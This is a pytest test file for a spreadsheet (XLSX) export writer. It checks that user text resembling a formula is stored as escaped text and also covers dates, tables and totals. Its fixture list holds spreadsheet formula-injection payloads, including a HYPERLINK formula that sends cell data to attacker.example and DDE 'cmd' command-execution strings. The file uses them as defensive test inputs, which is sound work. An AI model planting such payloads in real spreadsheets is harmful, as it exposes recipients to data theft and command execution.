from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from exports import xlsx_writer
from exports.document_context import Provenance
from exports.tabular import Column, FrontSheet, Sheet
from tests.attendance_scenario import nasty_texts, needs_nasty_contacts

MADE = Provenance(
    organisation="=Wyvernshire",
    made_by="Jo Advisor",
    computer_user="jo",
    made_at=datetime(2025, 10, 8, 14, 5, tzinfo=UTC),
)
FRONT = FrontSheet(
    title="Test workbook", holds="Things", period="Autumn", provenance=MADE, facts=(("Count", 3),)
)
# The shared list's formula-like values, or (without it) one of each kind it holds.
FORMULA_LIKE = [t for t in nasty_texts() if xlsx_writer.is_formula_like(t)] or [
    '=HYPERLINK("http://attacker.example/?d="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "＝1+1",
]


@pytest.fixture(params=["normal", "write-only"])
def mode(request, monkeypatch):
    """Every test runs in openpyxl's normal mode and in the streaming mode big workbooks use."""
    if request.param == "write-only":
        monkeypatch.setattr(xlsx_writer, "WRITE_ONLY_ABOVE", 0)
    return request.param


def written(*sheets, front=FRONT):
    ticks = []
    data = xlsx_writer.write_workbook(front, sheets, lambda done, total: ticks.append((done, total)))
    return load_workbook(io.BytesIO(data)), data, ticks


def text_sheet(values, title="Names"):
    return Sheet(title, title, "names", (Column("Name"),), [(v,) for v in values], len(values))


@needs_nasty_contacts
def test_the_nasty_list_really_holds_every_kind_of_formula():
    starts = {t.lstrip(xlsx_writer.LEADING_NOISE)[0] for t in FORMULA_LIKE}
    assert starts == {"=", "+", "-", "@", "＝"}
    assert any(t.startswith("\t=") for t in FORMULA_LIKE)
    assert any(t.startswith("\r=") for t in FORMULA_LIKE)


def test_user_text_that_looks_like_a_formula_is_stored_as_text(mode):
    workbook, data, _ = written(text_sheet(FORMULA_LIKE))
    cells = [row[0] for row in workbook["Names"].iter_rows(min_row=2)]
    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in FORMULA_LIKE]
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells)  # stays text when edited in Excel
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet2.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml


def test_ordinary_text_is_left_alone(mode):
    plain = ["Zoë Brontë", "O'Brien", "St Thomas à Becket", "'=already-escaped", "Turner-Silva"]
    workbook, _, _ = written(text_sheet(plain))
    cells = [row[0] for row in workbook["Names"].iter_rows(min_row=2)]
    assert [c.value for c in cells] == plain
    assert not any(c.quotePrefix for c in cells)


def test_the_front_sheet_escapes_user_text_too(mode):
    workbook, _, _ = written(text_sheet(["x"]))
    front = {row[0].value: row[1] for row in workbook["About"].iter_rows(min_row=3) if row[0].value}
    assert front["Organisation"].value == "=Wyvernshire"
    assert front["Organisation"].data_type == "s"


def test_control_characters_excel_refuses_are_dropped(mode):
    workbook, _, _ = written(text_sheet(["a\x00b\x07c", "tab\tand\nnewline"]))
    values = [row[0].value for row in workbook["Names"].iter_rows(min_row=2)]
    assert values == ["abc", "tab\tand\nnewline"]


def test_each_sheet_is_a_table_with_a_frozen_header_and_fitted_columns(mode):
    sheet = Sheet(
        "People",
        "People",
        "people",
        (Column("Name"), Column("Setting"), Column("URN", "integer")),
        [("Zoë", "A very long setting name indeed, longer than most", 960001), ("Al", "Short", 960002)],
        2,
        frozen_columns=1,
    )
    workbook, _, _ = written(sheet)
    people = workbook["People"]
    table = people.tables["People"]
    assert table.ref == "A1:C3"
    assert table.autoFilter.ref == "A1:C3"
    assert [c.name for c in table.tableColumns] == ["Name", "Setting", "URN"]
    assert people.freeze_panes == "B2"
    widths = {k: v.width for k, v in people.column_dimensions.items()}
    assert widths["B"] > widths["A"]
    assert widths["B"] == len("A very long setting name indeed, longer than most") + 2


def test_dates_are_dates_and_times_are_english_wall_clock(mode):
    sheet = Sheet(
        "When",
        "When",
        "when",
        (Column("Day", "date"), Column("Starts", "datetime"), Column("Hours", "hours")),
        # 08:30 UTC in October is 09:30 in England.
        [(date(2025, 10, 8), datetime(2025, 10, 8, 8, 30, tzinfo=UTC), 1.5)],
        1,
    )
    workbook, _, _ = written(sheet)
    day, starts, hours = next(workbook["When"].iter_rows(min_row=2))
    assert day.is_date
    assert day.number_format == xlsx_writer.DATE_FORMAT
    assert day.value == datetime(2025, 10, 8)
    assert starts.value == datetime(2025, 10, 8, 9, 30)
    assert starts.number_format == xlsx_writer.DATETIME_FORMAT
    assert (hours.value, hours.number_format) == (1.5, "0.00")


def test_a_sheet_without_rows_still_has_a_valid_table(mode):
    workbook, _, _ = written(text_sheet([]))
    assert workbook["Names"].tables["Names"].ref == "A1:A2"


def test_headings_are_made_distinct(mode):
    sheet = Sheet("Dup", "Dup", "d", (Column("Total"), Column("total"), Column("=Sum")), [(1, 2, 3)], 1)
    workbook, _, _ = written(sheet)
    assert [c.name for c in workbook["Dup"].tables["Dup"].tableColumns] == ["Total", "total (2)", "=Sum"]
    assert workbook["Dup"]["C1"].data_type == "s"


def test_totals_sit_under_the_table_in_bold(mode):
    sheet = Sheet(
        "Sums",
        "Sums",
        "s",
        (Column("Setting"), Column("N", "integer")),
        [("A", 1), ("B", 2)],
        2,
        totals=("Total", 3),
    )
    workbook, _, _ = written(sheet)
    sums = workbook["Sums"]
    assert sums.tables["Sums"].ref == "A1:B3"
    assert (sums["A4"].value, sums["B4"].value, sums["A4"].font.b) == ("Total", 3, True)


def test_the_front_sheet_says_what_when_and_who(mode):
    workbook, _, _ = written(text_sheet(["x"]))
    assert workbook.sheetnames == ["About", "Names"]
    about = workbook["About"]
    assert about["A1"].value == "Test workbook"
    front = {row[0].value: row[1].value for row in about.iter_rows(min_row=3) if row[0].value}
    assert front["What it holds"] == "Things"
    assert front["Period"] == "Autumn"
    assert front["Made by"] == "Jo Advisor (computer user jo)"
    assert front["Made on"] == datetime(2025, 10, 8, 15, 5)
    assert front["Count"] == 3
    assert front["Names"] == "names"


def test_progress_reaches_the_total():
    _, _, ticks = written(text_sheet([f"n{i}" for i in range(1200)]))
    assert ticks[-1] == (1200, 1200)
    assert (500, 1200) in ticks


def test_a_row_of_the_wrong_width_is_a_bug_not_a_silent_shift():
    sheet = Sheet("Bad", "Bad", "b", (Column("A"), Column("B")), [("only one",)], 1)
    with pytest.raises(ValueError, match="1 values for 2 columns"):
        written(sheet)
